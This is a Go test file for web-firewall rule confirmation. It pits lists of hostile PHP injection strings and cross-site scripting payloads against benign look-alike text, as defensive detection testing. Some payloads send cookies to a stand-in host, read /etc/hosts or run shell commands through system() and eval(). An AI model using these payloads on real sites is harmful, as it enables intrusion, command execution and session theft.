package confirm

import (
	"strings"
	"testing"
)

// paddings are what an honest sender may write around anything, each over 600 bytes: sentences, a document, lines of a program.
var paddings = map[string]string{
	"sentences": strings.Repeat("The parcel arrives on Monday, and nobody is at home to take it from the driver. ", 8),
	"document":  strings.Repeat("## Delivery\n\n- the parcel `a-7` arrives on **Monday**\n- see [the page](https://example.com/help)\n\n", 7),
	"program":   strings.Repeat("const parcel = load(order.id);\nif (parcel.late) {\n  notify(parcel.owner, 'late');\n}\n", 8),
}

// checkPadded says of each text that is confirmed by itself whether it stays so between paddings, in a line and on a line of its own.
func checkPadded(t *testing.T, rule int, texts []string) {
	t.Helper()
	for _, text := range texts {
		if reason, denied := Denied(Match{Rule: rule, Text: text}); denied {
			t.Errorf("%d: %q is denied: %s", rule, text, reason)
		}
		for name, padding := range paddings {
			for _, glue := range []string{" ", "\n"} {
				for _, padded := range []string{padding + glue + text + glue + padding, text + glue + padding, padding + glue + text} {
					if reason, denied := Denied(Match{Rule: rule, Text: padded}); denied {
						t.Errorf("%d: %q is denied with %s around it: %s", rule, text, name, reason)
					}
				}
			}
		}
	}
}

// hostilePHP does harm by what is called and what it is given.
var hostilePHP = []string{
	"system('id')", "system( \"id\" );", "passthru('ls -la')", "shell_exec(`id`)", "popen('cat /etc/hosts','r')", "exec('whoami')", "exec(\"curl http://x.example/a\")", "exec($cmd)", "eval($_POST[1])",
	"eval('phpinfo();')", "assert('phpinfo()')", "eval(base64_decode('YQ=='))", "assert(str_rot13('x'))", "phpinfo()", "print(phpinfo())", "\"].phpinfo().exit().$a[\"", "call_user_func('system','id')", "array_map('assert',$a)",
	"usort($a,'x')", "create_function('','system(1);')", "base64_decode('YQ==')", "file_get_contents('/etc/hosts')", "fopen('http://x.example/a','r')", "include('../../x')", "readfile('/etc/hosts')", "@unlink('a.php')",
	"'system'('id')", "\"system\"('id')", "('sys'.'tem')('id')", "(system)('id')", "['system'][0]('id')", "(string)\"sys\".\"tem\"('id')", "$a('id')", "$a[0]($b)", "${a}($b)", "$$a($b)", "$a->b('c')", "A::$b()", "$f='x';$f('y z')", "define('z','sys'.'tem');(z)('uname')", "(z)[0]('id')", "$f = fopen('a.txt','a+');", "exec ('sel' + 'ect 1')", "system('i'.'d')",
	"system/**/('id')", "system # a\n('id')", "\\system('id')", "exec(print(`id`))", "${exec(print(`echo a`))}", "0).system('id').(", "os.popen('id')", "x.getRuntime().exec('id')", "chr(105).chr(100)", "chr(1)||chr(2)",
	"gzinflate/*a*/()", "popen(chr(105))", "proc_open($a,$b)", "fwrite($f,$c)", "preg_replace('/a/e',$b,'')", "getcwd($a)", "php_uname()", "get_defined_vars()", "move_uploaded_file('a','b')", "${''.getClass()}", "$ {a}",
}

// honestPHP is what people write about functions, and programs in other languages.
var honestPHP = []string{
	"file (1).pdf", "operating system (Linux)", "Upload a file (max 2 MB)", "Count (Dracula)", "Floor (3)", "the time (UTC) is 5", "e-mail (home)", "see the file (page 3) and the link (below)", "max (5) and min (1)", "system (1)",
	"system(7), exec(3), popen(3) and stdin(3)", "basename()\ndirname()\nreaddir()\n", "the functions exec() and eval() are gone", "printf(\"%d of %d\\n\", a, b);", "print('hello')", "print(f'{a} of {b}')", "printf(\"a\");\nexit(0);",
	"const exec = require('util');", "var a = require(\"fs\"), b = require('path')('x');", "(0, a.b)(c);", "(0, _a.isType)('x')", "f(x)(y)", "(1)(2)", "require('debug')('a:b')", "re.exec('text')", "db.exec('BEGIN')", "pattern.exec(line)",
	"$('a').hide()", "$(this).val('x')", "$.each(a, function(b) {})", "{{ $t('page.title') }}", "`${a} (${b})`", "`${a}(${b(c)})`", "costs $5 (about 4 euros)", "$HOME (a folder)", "$x (the first one)", "echo $(date)",
	"\"name\": (a or b)", "'yes' (or 'no')", "the word \"file\" (see below)", "['a', 'b'](c)", "(a || 'b')(c)", "(await import('a'))('b')", "f = fopen(path, \"r\")", "strlen(buf)", "copy(a, b)", "rename(old, new)", "a = chr(65) + chr(66)",
	"date(2024)", "sleep(5)", "mkdir(name)", "is_object(argument)", "print(json.dumps(a))", "usort (stable)", "define(['a'], function(b) {})", "join(', ', list)", "expected 'a'(b)", "link(rel)", "touch(event)", "min(a, max(b, c))",
}

func TestTagsOfPHPCountIfAStatementFollows(t *testing.T) {
	checkPadded(t, 933100, []string{"<?php echo 1;", "<? echo 1;", "<?= $a ?>", "<?=`id`", "<? system('id')", "<?\n$a=1;", "<?=1?>", "<? // a", "<? /* a */ b()", "<?= 'a'.'b'", "<? php echo 1", "[php]a[/php]", "{php}a", "<?xml :a", "<?=A::b()", "<? foo='a'"})
	verdicts{rule: 933100, counts: []string{"<?"}, denied: []string{"a<? 2Zd(", "x<?=Be$_v", "b<? )$", "is a<? b or a<?=;", "T<?=%y(", "<? 9_$"}}.check(t)
	verdicts{rule: 934150, counts: []string{"Process.spawn('a')", ";Process . spawn ("}, denied: []string{"childProcess.spawn('a')"}}.check(t)
	verdicts{rule: 934110, denied: []string{"See http://localhost:631/admin for it"}, counts: []string{"http://localhost:631/admin", "See http://localhost:443/a"}}.check(t)
}

func TestCallsOfPHPCountWhateverStandsAroundThem(t *testing.T) {
	checkPadded(t, 933160, hostilePHP)
}

func TestWhatIsWrittenAboutFunctionsIsNoCallOfPHP(t *testing.T) {
	for _, rule := range []int{933150, 933160, 933180, 933210} {
		verdicts{rule: rule, denied: honestPHP}.check(t)
	}
}

// hostileScripts run in a page whatever the page is: by what they call and give it, by what they leave, or by how they hide a name.
var hostileScripts = []string{
	"alert(1)", "alert('x')", "alert(document.domain)", "prompt`1`", "confirm(/x/)", "(alert)(1)", "window.alert(1)", "alert /* a */ (1)", "alert?.(1)", "[1].find(alert)", "['a'].map(alert)", "eval('1+1')", "eval(atob('YQ=='))",
	"eval(name)", "eval(location.hash.slice(1))", "eval(`1`)", "Function('alert(1)')()", "new Function`alert(1)`", "[].constructor.constructor('x()')()", "setTimeout('x()')", "setTimeout(`x()`)", "setInterval('x=1')",
	"top['al'+'ert'](1)", "self[\"ale\"+\"rt\"](1)", "window['alert'](1)", "this['eval']('x')", "document['cookie']", "window[`al`+`ert`](1)", "parent['alert'](1)", "globalThis['al'+'ert'](1)", "top?.['al'+'ert'](1)",
	"';alert(1)//", "'-alert(1)-'", "\"-alert`1`-\"", "';fetch(u)//", "'+open(u)+'", "';document.write(a)//", "'-import(u)-'", "fetch('//x.example/'+document.cookie)", "fetch('//x.example')", "import('//x.example/a.js')",
	"new Image().src='//x.example/'+document.cookie", "location='//x.example/?'+document.cookie", "x=`//x.example/${document.cookie}`", "document/**/.cookie", "throw document.cookie", "onerror=alert;throw 1", "{onerror=eval}throw'=x'",
	"window.onerror=alert", "[].sort.call`${alert}1`", "String.fromCharCode(97,108)", "document.write(1)", "'-document.write`a`-'", "\" onfocus=x() autofocus y=\"", "' onmouseover=a[b](c) '", "onload=x=>a.b('//x.example')", "<x onxxx=1",
	"{{constructor.constructor('x()')()}}", "atob('YQ==')", "<svg/onload=x()>", "javascript:x()", "<style>*{x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(a(1))}</style>", "<b style=\"a:expr/*b*/ession(c)\">", "<\u0131frame srcdoc=a>", "<\u017fcript>a", "<div dataformatas=html>",
	"<?xml version='1.0' encoding='utf-7'?>", "<b><?xml version='1.0'?>", "alert.call(null,1)", "Reflect.apply(window.alert,null,[1])", "import('example.com')", "<script>x</script>", "data:text/html,<script>x</script>", "<a xmlns=\"b\" xsi:schemaLocation=\"b http://x.example/a.xsd\">c</a>",
}

// honestScripts are programs that people show, and sentences about them.
var honestScripts = []string{
	"Use alert() sparingly: it stops the page", "alert(): You have unsaved changes", "the function fetch() loads a page", "const res = await fetch('https://example.com/a', { method: 'POST' });", "const a = await import('./a.js');",
	"import('lodash').then(use)", "const { map } = require('a');\nmap(a, b)", "list.map(x => x + 1)", "names.sort(compare).join(', ')", "items.find(function (i) { return i.id === id })", "Object.assign(a, b)", "window.open(url)", "file.open('a', 'r')",
	"setTimeout(() => { done(); }, 100)", "setTimeout(next, 10)", "function(a) { return a }", "new Function(\"Vue\", code)(shared)", "class A { constructor(a) { this.a = a } }", "eval(context) { return 1 }",
	"this[key] = value", "this[method](a, b)", "window[name]", "self.a['b'](c)", "document.querySelector('a')", "const c = document.cookie.split(';')", "return this['handlers'].length", "top of the page [1]",
	"if (location.hash) { scroll() }", "x.innerHTML = html", "localStorage.getItem('a')", "app.on('exit', function (code) { stop() })", "once=true", "onChange={(e) => set(e)}", "const onDone = start('a')", "x.onload = init",
	"rl.prompt();", "print(a)", "print(`usage`)", "rl.question('a', b)", "decodeURIComponent(a)", "String.fromCharCode(code)", "console.log('a')", "document.write('a')", "xhr.open('GET', url)",
	"navigator.sendBeacon(url, data)", "a: [alert, warning]", "the eval function", "`.call` and `.apply`", "throw new Error('a')", "var desc = Object.getOwnPropertyDescriptor(m, k);", "<project xmlns=\"a\" xsi:schemaLocation=\"a b.xsd\"><id>c</id></project>",
	"text-align:center;on=1", "conference=a(b)", "season=b(c)", "https://example.com/?once=1&online=2", "price on=off", "onclick=app.close_chat();", "onclick=dismiss(this);", "a<k j z2znut", "<xml/=7bwkkz(,spt", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>b</a>", "read only property of object '#<Object>'", "<iframe>", "<a onclick=\"\">b</a>", "e.illegal_await_expression(node)", "function helperExpression(node) { }",
	"npm run test:javascript:no-jest && npm test", "javascript:(void)", "onmessage = (event) => { run(event) }", "const a = expression(b)", "evaluate(ast)", "'a', fetch(b)", "['x', import(y)]",
}

func TestScriptsCountWhateverStandsAroundThem(t *testing.T) {
	checkPadded(t, 941390, hostileScripts)
}

func TestScriptsThatPeopleShowAreDenied(t *testing.T) {
	for _, rule := range []int{941100, 941160, 941180, 941370, 941390} {
		verdicts{rule: rule, denied: honestScripts}.check(t)
	}
}
